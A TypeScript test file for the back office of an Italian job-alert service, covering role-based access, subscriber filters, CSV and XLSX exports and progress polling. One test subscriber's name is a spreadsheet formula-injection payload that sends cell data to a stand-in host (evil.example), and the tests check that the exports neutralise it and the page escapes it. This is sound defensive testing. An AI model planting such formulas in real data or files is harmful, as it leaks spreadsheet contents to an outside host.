// /admin/iscritti and /admin/avvisi over HTTP: who may reach each route, the filters kept in the
// export links, the exported files (formulas inert), the counts fragment htmx polls, and the link
// from a call's back-office page.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { testRuntime, type TestRuntime } from '../support/runtime.ts';
import { describeRoleMatrix, type MatrixRoute, type Role } from '../support/role-matrix.ts';
import { createStaff, signIn } from '../support/http.ts';
import { buildCall } from '../factories/index.ts';
import { buildFanout, buildSubscriber } from '../factories/alerts.ts';
import { text } from './calls-support.ts';

let rt: TestRuntime;
const cookies: Record<Role, string> = { admin: '', recruiter: '', editor: '' };
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Apri")';
let subscriberId = '';
let runningCallId = '';
let doneCallId = '';

beforeAll(async () => {
  rt = await testRuntime();
  for (const role of ['admin', 'recruiter', 'editor'] as const) {
    const u = await createStaff(rt, { role });
    cookies[role] = await signIn(rt, u.email, u.password);
  }
  const db = rt.deps.db;
  const maria = await buildSubscriber(db, {
    name: 'Maria Rossi',
    email: 'maria.rossi@example.test',
    specialisations: ['geriatria'],
    comuni: ['022161'],
    consentAt: new Date('2026-03-10T09:30:00Z'),
    confirmedAt: new Date('2026-03-10T09:30:00Z'),
    consentExpiresAt: new Date('2028-03-10T09:30:00Z'),
  });
  subscriberId = maria.id;
  const evil = await buildSubscriber(db, { name: HYPERLINK, email: 'evil@example.test', specialisations: ['geriatria'], provinces: ['022'] });
  await buildSubscriber(db, { name: 'Luca Bianchi', email: 'luca@example.test', professionCode: 'infermiere', frequency: 'weekly' });

  runningCallId = (await buildCall(rt.deps, { title: 'Geriatria a Rovereto' })).id;
  doneCallId = (await buildCall(rt.deps, { title: 'Medicina interna a Trento' })).id;
  await buildFanout(db, runningCallId, [
    { subscriberId: maria.id, status: 'sent', reasonKind: 'affine', clicks: 1, sentAt: new Date() },
    { subscriberId: evil.id, status: 'pending', reasonKind: 'same' },
  ]);
  await buildFanout(db, doneCallId, [{ subscriberId: maria.id, status: 'failed', attempts: 2, error: '550 no such user' }]);
});
afterAll(() => rt.close());

const get = (path: string, role: Role = 'recruiter') => rt.app.request(path, { headers: { cookie: cookies[role] } });

const ROUTES: MatrixRoute[] = [
  { method: 'GET', path: () => '/admin/iscritti', allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => '/admin/iscritti?stato=active&professione=medico_chirurgo', allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => '/admin/iscritti/esporta.csv', allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => '/admin/iscritti/esporta.xlsx', allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => `/admin/iscritti/${subscriberId}`, allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => '/admin/avvisi', allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => `/admin/avvisi/${runningCallId}`, allowed: { admin: 200, recruiter: 200 } },
  { method: 'GET', path: () => `/admin/avvisi/${runningCallId}/avanzamento`, allowed: { admin: 200, recruiter: 200 } },
];

describe('who may reach the talent pool pages', () => {
  describeRoleMatrix({
    app: () => rt.app,
    cookies,
    routes: ROUTES.filter((r) => r.path().startsWith('/admin/iscritti')),
    signInRedirect: /^\/accedi\?next=%2Fadmin%2Fiscritti/,
    successRedirect: /^$/,
  });
  describeRoleMatrix({
    app: () => rt.app,
    cookies,
    routes: ROUTES.filter((r) => r.path().startsWith('/admin/avvisi')),
    signInRedirect: /^\/accedi\?next=%2Fadmin%2Favvisi/,
    successRedirect: /^$/,
  });

  it('shows the sections in the navigation to recruiters, not to editors', async () => {
    const recruiter = await (await get('/admin', 'recruiter')).text();
    expect(recruiter).toContain('href="/admin/iscritti"');
    expect(recruiter).toContain('href="/admin/avvisi"');
    const editor = await (await get('/admin', 'editor')).text();
    expect(editor).not.toContain('href="/admin/iscritti"');
    expect(editor).not.toContain('href="/admin/avvisi"');
  });
});

describe('the subscribers list', () => {
  it('filters through a GET form, keeps the filters in the export links, and shows the counts', async () => {
    const res = await get('/admin/iscritti?q=rossi&stato=active&provincia=022&frequenza=weekly&professione=%27x');
    const html = text(await res.text());
    // Weekly filter: nobody named Rossi is weekly.
    expect(html).toContain('Nessun iscritto corrisponde ai filtri.');
    const ok = text(await (await get('/admin/iscritti?q=rossi&stato=active&provincia=022')).text());
    expect(ok).toContain('Maria Rossi');
    expect(ok).not.toContain('Luca Bianchi');
    expect(ok).toContain('href="/admin/iscritti/esporta.csv?q=rossi&stato=active&provincia=022"');
    expect(ok).toContain('href="/admin/iscritti/esporta.xlsx?q=rossi&stato=active&provincia=022"');
    expect(ok).toMatch(/<option value="022" selected="">Trento \(TN\)<\/option>/);
    expect(ok).toContain('Rovereto (TN)');
    // The counts: two active subscribers in Trento's province (one through a comune), one anywhere.
    expect(ok).toMatch(/<caption>Iscritti attivi per provincia<\/caption>[\s\S]*?Trento \(TN\)<\/a><\/th><td class="text-end">2<\/td>/);
    expect(ok).toMatch(/Ovunque \(nessuna zona scelta\)<\/a><\/th><td class="text-end">1<\/td>/);
    expect(ok).toMatch(/<caption>Iscritti attivi per profilo professionale<\/caption>[\s\S]*?Medico chirurgo<\/a><\/th><td class="text-end">2<\/td>/);
  });

  it("escapes a subscriber's name on the page", async () => {
    const html = await (await get('/admin/iscritti?q=evil')).text();
    expect(html).toContain('=HYPERLINK(&quot;https://evil.example/?d=&quot;&amp;A1,&quot;Apri&quot;)');
  });

  it('shows a subscriber read-only, with consent dates and their alerts', async () => {
    const html = text(await (await get(`/admin/iscritti/${subscriberId}`)).text());
    expect(html).toContain('<h1>Maria Rossi</h1>');
    expect(html).toContain('maria.rossi@example.test');
    expect(html).toContain('Rovereto (TN)');
    expect(html).toContain('10 marzo 2028');
    expect(html).toContain(`href="/admin/avvisi/${runningCallId}"`);
    expect(html).toContain('Geriatria a Rovereto');
    // Read-only: the only forms are the layout's sign-out and "open the case" (which changes no subscriber data).
    expect(html).not.toMatch(new RegExp(`<form method="post" action="(?!/esci"|/admin/iscritti/${subscriberId}/caso")`));
    expect(html).toContain(`action="/admin/iscritti/${subscriberId}/caso"`);
    expect((await get('/admin/iscritti/00000000-0000-0000-0000-000000000000')).status).toBe(404);
  });
});

describe('exports', () => {
  it('CSV: the filtered rows, every column, the formula inert', async () => {
    const res = await get('/admin/iscritti/esporta.csv?specializzazione=geriatria');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="iscritti-avvisi-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const body = await res.text();
    const rows = Papa.parse<Record<string, string>>(body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    expect(rows.map((r) => r.Email)).toEqual(['evil@example.test', 'maria.rossi@example.test']);
    expect(rows[0]!.Nome).toBe(`'${HYPERLINK}`);
    expect(rows[1]).toEqual({
      Email: 'maria.rossi@example.test',
      Nome: 'Maria Rossi',
      'Profilo professionale': 'Medico chirurgo',
      Specializzazioni: 'Geriatria',
      'Zone di interesse': 'Rovereto (TN)',
      'Tipi di bando': 'Tutti i tipi di bando',
      Frequenza: 'subito',
      Lingua: 'italiano',
      Stato: 'attivo',
      'Consenso dato il': '2026-03-10 10:30',
      'Consenso valido fino al': '2028-03-10',
    });
  });

  it('XLSX: typed dates, English headers under /en, the formula a plain string', async () => {
    const res = await get('/en/admin/iscritti/esporta.xlsx?q=evil');
    expect(res.headers.get('content-disposition')).toMatch(/filename="alert-subscribers-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getCell('A1').value).toBe('Email');
    expect(ws.rowCount).toBe(2);
    expect(ws.getCell('B2').type).toBe(ExcelJS.ValueType.String);
    expect(ws.getCell('B2').value).toBe(`'${HYPERLINK}`);
    expect(ws.getCell('E2').value).toBe('Trento');
    expect(ws.getCell('J2').type).toBe(ExcelJS.ValueType.Date);
  });
});

describe('alert statistics', () => {
  it('lists fan-outs and links each to its page', async () => {
    const html = text(await (await get('/admin/avvisi')).text());
    expect(html).toContain(`<a href="/admin/avvisi/${runningCallId}">Geriatria a Rovereto</a>`);
    expect(html).toContain('invio in corso');
    expect(html).toContain('concluso');
  });

  it('polls a counts fragment while sending runs, with a refresh link for no JavaScript', async () => {
    const html = text(await (await get(`/admin/avvisi/${runningCallId}`)).text());
    expect(html).toContain(`data-hx-get="/admin/avvisi/${runningCallId}/avanzamento"`);
    expect(html).toContain('data-hx-trigger="every 2s"');
    expect(html).toContain('/assets/app/htmx.min.js');
    expect(html).toContain('1 di 2 avvisi elaborati (50%)');
    expect(html).toMatch(/<progress id="fanout-progress-bar"[^>]*max="2"[^>]*value="1"/);
    expect(html).toContain(`<a href="/admin/avvisi/${runningCallId}">Aggiorna i numeri</a>`);
    expect(html).toMatch(/data-count="clicked">1</);

    const frag = await get(`/admin/avvisi/${runningCallId}/avanzamento`);
    expect(frag.headers.get('cache-control')).toBe('no-store');
    const fragment = text(await frag.text());
    expect(fragment.startsWith('<div id="fanout-progress"')).toBe(true);
    expect(fragment).not.toContain('<html');
    expect(fragment).toContain('data-hx-trigger="every 2s"');
  });

  it('stops polling once done, and names only the failed address', async () => {
    const html = text(await (await get(`/admin/avvisi/${doneCallId}`)).text());
    expect(html).not.toContain('data-hx-get');
    expect(html).not.toContain('htmx.min.js');
    expect(html).toContain('maria.rossi@example.test');
    expect(html).toContain('550 no such user');
    const running = text(await (await get(`/admin/avvisi/${runningCallId}`)).text());
    expect(running).not.toContain('maria.rossi@example.test');
    expect(running).not.toContain('evil@example.test');
  });

  it("is linked from the call's back-office page for recruiters, not for editors", async () => {
    expect(await (await get(`/admin/bandi/${runningCallId}`, 'recruiter')).text()).toContain(`href="/admin/avvisi/${runningCallId}"`);
    expect(await (await get(`/admin/bandi/${runningCallId}`, 'editor')).text()).not.toContain('/admin/avvisi/');
  });
});
